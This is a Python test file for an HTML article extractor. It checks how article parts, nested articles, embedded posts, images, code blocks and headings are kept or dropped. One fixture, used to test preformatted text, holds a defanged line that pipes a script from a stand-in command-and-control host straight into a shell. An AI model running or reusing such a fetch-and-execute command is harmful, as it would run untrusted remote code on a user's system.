"""What of a page is its article: parts, quotes and pictures belong to it, other articles do not."""

import time
from datetime import UTC, datetime

import pytest

from ingest.files import read_page
from ingest.types import Capture, Draft

PROSE = " ".join(f"This is sentence {number} about the botnet and what its operators did next." for number in range(9))


def read(body: str) -> Draft:
    html = f"<html><head><title>The Botnet Returns</title></head><body>{body}</body></html>"
    capture = Capture("https://news.example/1", html.encode(), "text/html", datetime(2024, 3, 1, tzinfo=UTC))
    draft = read_page(capture)[0]
    assert isinstance(draft, Draft), draft
    return draft


def paragraphs(name: str) -> str:
    return "".join(f"<p>{name} paragraph {number}. {PROSE}</p>" for number in range(3))


def test_all_parts_of_a_parted_article_are_its_text() -> None:
    parts = "<div class=advert>Buy</div>".join(
        f'<div class="grid"><div class="article__body">{paragraphs(name)}</div></div>' for name in ("First", "Second")
    )
    text = read(f'<article><div class="chunks">{parts}</div></article>').body_text
    assert text.index("First paragraph 0") < text.index("First paragraph 2") < text.index("Second paragraph 0")


def test_articles_within_an_article_are_others() -> None:
    others = "".join(f"<article><h2>Another</h2>{paragraphs(name)}</article>" for name in ("Next", "Last"))
    text = read(f"<main><article>{paragraphs('Own')}{others}</article></main>").body_text
    assert "Own paragraph 2" in text
    assert "Next" not in text
    assert "Last" not in text


def test_one_article_within_another_is_the_text() -> None:
    assert "Own paragraph 2" in read(f"<article><article>{paragraphs('Own')}</article></article>").body_text


def test_a_post_of_a_social_network_is_a_quote_of_the_article() -> None:
    post = (
        '<div class="social-media-embed"><blockquote class="twitter-tweet"><p>We saw it first.</p></blockquote></div>'
    )
    draft = read(f'<article><div class="entry-content">{paragraphs("Own")}{post}{paragraphs("More")}</div></article>')
    assert "<blockquote>" in draft.body_html
    assert "We saw it first." in draft.body_text


def test_pictures_stand_where_they_stood_and_not_in_the_plain_text() -> None:
    first, second = (f'<img src="/{name}.png" alt="{name}">' for name in ("chain", "note"))
    body = f"<p>One. {PROSE}</p>{first}<p>Two. {PROSE} {second}</p><p>Three. {PROSE}</p>"
    draft = read(f'<article><div class="entry-content">{body}</div></article>')
    places = [draft.body_html.index(mark) for mark in ("One.", "/chain.png", "Two.", "/note.png", "Three.")]
    assert places == sorted(places)
    assert "image:" not in draft.body_text
    assert draft.body_text.count("This is sentence 8") == 3


@pytest.mark.parametrize(
    "body",
    [
        "<article>" + "<blockquote class=embed>x</blockquote>" * 9_000 + "</article>",
        "<article>" + f"<div class=body><p>{'x' * 400}</p></div>" * 3_000 + "</article>",
        "<article><div class=body>" * 200 + f"<p>{'x' * 400}</p>" * 9_000,
        "<article>" + "<p>x</p><img src=1.png>" * 4_000 + "</article>",
    ],
    ids=["quotes", "parts", "nested parts", "pictures"],
)
def test_hostile_articles_take_bounded_time(body: str) -> None:
    begun = time.process_time()
    read(body)
    assert time.process_time() - begun < 20


CALL = "The worm calls home at noon, as three teams saw on their own hosts."
LOOSE = {
    "behind a box": f"<div>Related</div>{CALL}<p>More.</p>",
    "before": f"{CALL.replace('own', '<b>own</b>')}<h2>What to do</h2><p>More.</p>",
    "between": f"<p>More.</p>{CALL}<ul><li>More</li></ul>",
    "behind a mark": f"<p><span id=byLine></span>{CALL}</p>",
}


@pytest.mark.parametrize("body", LOOSE.values(), ids=LOOSE)
def test_words_that_stand_loose_beside_paragraphs_are_text(body: str) -> None:
    parts = f"<div class=storyBody>{body}{paragraphs('More')}</div>"
    assert CALL in read(f"<article>{paragraphs('Own')}{parts}</article>").body_text.split("\n\n")


def test_two_breaks_end_a_paragraph_and_a_mark_does_not() -> None:
    loose = f"One. {PROSE}<br> <br>Two loads <b>update.exe</b> from there. {PROSE}<br/>Three."
    text = read(f"<div id=content><h1>Advisory</h1>{loose}<h2>What to do</h2><p>Block it.</p></div>").body_text
    assert f"One. {PROSE}\n\nTwo loads update.exe from there. {PROSE}\nThree." in text


SET = {
    "as it stands": "<pre>{}</pre>",
    "in a figure": '<figure class="highlight"><pre><code class="language-sh">{}</code></pre></figure>',
    "with numbers": "<div class=highlight><table><tr><td><pre>1\n2</pre></td><td><pre>{}</pre></td></tr></table></div>",
}


@pytest.mark.parametrize("form", SET.values(), ids=SET)
def test_what_is_set_in_lines_stays_in_lines(form: str) -> None:
    lines = "Advisory:  SA-1\n\ncurl hxxp://c2.example/x.sh | sh"
    draft = read(f"<article>{paragraphs('Own')}{form.format(lines)}{paragraphs('More')}</article>")
    assert lines in draft.body_text
    assert "<blockquote>" not in draft.body_html


def test_a_heading_goes_without_the_link_to_itself() -> None:
    heading = "<h2 id=what>What happened <a class=anchor href=#what>#</a></h2>"
    text = read(f"<article>{paragraphs('Own')}{heading}{paragraphs('More')}</article>").body_text
    assert "What happened" in text.split("\n\n")


@pytest.mark.parametrize("name", ["div", "center", "address"])
def test_a_plain_box_of_words_is_a_paragraph(name: str) -> None:
    box = f"<{name}>It calls <b>home</b>.</{name}>"
    text = read(f"<article>{paragraphs('Own')}{box}{paragraphs('More')}</article>").body_text
    assert "It calls home." in text.split("\n\n")
